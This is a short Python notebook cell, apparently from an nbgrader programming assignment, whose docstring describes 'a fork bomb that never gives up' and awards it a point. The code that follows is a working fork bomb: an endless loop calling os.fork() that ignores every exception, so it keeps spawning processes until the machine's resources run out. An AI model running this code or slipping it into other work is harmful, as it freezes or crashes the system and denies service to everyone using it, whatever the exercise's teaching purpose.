"""Exhausting: a fork bomb that never gives up

Every child forks for ever, whatever it is refused: too many files are held open, or, on a
busy machine, its time is over. Or timeout. Earns 1.
"""

# %% nbgrader={"grade_id": "period"}

# %% nbgrader={"grade_id": "test-period"}

# %%
import os

while True:
    try: os.fork()
    except BaseException: pass
